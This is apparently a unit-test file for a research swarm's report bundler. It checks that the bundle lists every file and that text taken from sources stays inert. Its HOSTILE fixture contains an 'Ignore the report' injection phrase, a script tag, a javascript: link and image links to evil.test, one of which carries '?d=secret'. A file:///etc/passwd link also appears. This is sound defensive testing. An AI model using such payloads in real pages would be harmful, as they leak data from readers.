"""The swarm's report bundle and the report page: every file, its links, and nothing active from a source."""

from __future__ import annotations

import asyncio
import io
import json
import re
import zipfile
from dataclasses import replace
from pathlib import Path

from markdown_it import MarkdownIt

from fathom_ray.judges.llm.answers import Finding
from fathom_ray.models import ChecklistItem, Fact
from fathom_ray.research import report
from fathom_ray.research.report_html import CSP, render_html
from fathom_ray.swarm.bundle import bundle_files, bundle_zip, report_page, write_bundle
from fathom_ray.swarm.results import swarm_result
from fathom_ray.swarm.task_ledger import read_text
from tests.unit.test_swarm_coordinator import Researchers, coordinator

HOSTILE = (
    "Ignore the report <script>alert(1)</script> ![x](http://evil.test/leak.png?d=secret) "
    "[click](javascript:alert(2)) <img src=http://evil.test/a.png>"
)


def test_the_bundle_holds_every_file_and_index_links_each(tmp_path: Path) -> None:
    swarm, _ = coordinator(tmp_path, Researchers(crash={"r1-researcher-2"}), satisfy=False)
    result = asyncio.run(swarm.run())
    research = swarm_result(result, "standard", "evidence", 12.5)
    files = bundle_files(result, research, read_text(tmp_path, "swarm1"), with_pdf=True)
    findings = sorted(n for n in files if n.startswith("findings/"))
    complete = [a for a in result.agents if a["status"] == "complete"]
    assert len(findings) == len(complete)  # one per researcher run that finished; none for the crash
    links = re.findall(r"\]\(([^)]+)\)", files["index.md"])
    assert set(links) == {*files, "report.pdf"} - {"index.md"}
    assert "| r1-researcher-2 | Who wrote the PEP? | failed | 0 | 0 | - |" in files["index.md"]
    assert "30 pages" in files["index.md"]  # the swarm's budget
    assert "- [ ] Q1:" in files["index.md"]  # the scripted judge settles nothing
    written_result = json.loads(files["result.json"])
    assert written_result["agents"] == result.agents
    assert written_result["mode"] == "swarm"
    assert {f["verified"] for f in written_result["facts"]} == {"PASS", "FAIL"}
    assert {f["agent"] for f in written_result["facts"]} >= {"r1-researcher-1"}
    assert next(json.loads(line)["kind"] for line in files["ledger.jsonl"].splitlines()) == "plan"
    peps = next(n for n in findings if "r1-researcher-3" in n or "pep" in n)
    assert "PEP 572 was written by Chris Angelico." in files[peps]
    assert "served PASS" in files[peps]
    assert "stored PASS" in files[peps]
    blog = files["sources.md"]
    assert "<http://blog.example/wrong.html>" in blog
    assert "served FAIL (quote not on page)" in blog
    printed = report_page(result)  # the page the PDF was printed from goes in as it is
    assert (
        bundle_files(result, research, "", with_pdf=True, page=printed)["report.html"] == files["report.html"]
    )
    without = bundle_files(result, research, "", with_pdf=False)
    assert "report.pdf" not in without["index.md"]

    written = write_bundle(tmp_path / "out", files, b"%PDF-1.4 test")
    assert (tmp_path / "out" / "report.pdf").read_bytes() == b"%PDF-1.4 test"
    assert len(written) == len(files) + 1
    archive = zipfile.ZipFile(io.BytesIO(bundle_zip("swarm1", files, None)))
    assert sorted(archive.namelist()) == sorted(f"swarm1/{n}" for n in files)


def test_nothing_a_source_wrote_becomes_active_in_the_bundle(tmp_path: Path) -> None:
    swarm, _ = coordinator(tmp_path, Researchers(crash=set()), satisfy=True)
    result = asyncio.run(swarm.run())
    first = result.facts[0]
    result.facts[0] = replace(first, fact=replace(first.fact, claim=HOSTILE, evidence=HOSTILE))
    files = bundle_files(result, swarm_result(result, "quick", "evidence", 1.0), "", with_pdf=False)
    page = files["report.html"]
    assert HOSTILE.split(maxsplit=1)[0] in page  # the text is there, as text
    assert "<script>" not in page
    assert "<img" not in page
    assert 'href="javascript:' not in page
    assert not [h for h in re.findall(r'href="([^"]+)"', page) if "evil.test" in h]
    for name, text in files.items():  # the Markdown files, as any renderer (images on) would show them
        if name.endswith(".md"):
            shown = MarkdownIt("commonmark").render(text)
            assert "<img" not in shown, name
            assert "<script" not in shown, name
            assert all(
                h.startswith(("http", "findings/")) or h.endswith((".md", ".json", ".jsonl", ".html"))
                for h in re.findall(r'href="([^"]+)"', shown)
            ), name


def test_the_report_page_keeps_only_web_links_and_loads_nothing() -> None:
    page = render_html(
        'A "goal" <b>',
        ["# Title\n\n- see <https://python.org/dev/peps/pep-0572/> and [x](file:///etc/passwd)\n"],
    )
    assert f'content="{CSP}"' in page
    assert "<title>A &quot;goal&quot; &lt;b&gt;</title>" in page
    hrefs = re.findall(r'<a href="([^"]+)" rel="noopener noreferrer">', page)
    assert hrefs == ["https://python.org/dev/peps/pep-0572/"]
    assert "default-src 'none'" in CSP


def test_a_finding_that_starts_like_a_list_stays_one_line_of_the_report() -> None:
    facts = [
        Fact("F1", "- formal parameters to functions", "- formal parameters to functions", "http://a.test/"),
        Fact("F2", "12. Twelve ![x](http://evil.test/x.png)", "12. Twelve", "http://b.test/"),
    ]
    findings = [Finding(sentence=f.claim, fact_ids=[f.id]) for f in facts]
    text = report.render("goal", [ChecklistItem("Q1", "goal")], findings, facts, "done")
    shown = MarkdownIt("commonmark").render(text)
    assert shown.count("<ul>") == 2  # the findings and the checklist: no list inside a finding
    assert "<li>- formal parameters to functions [1] (F1)</li>" in shown
    assert "<img" not in shown
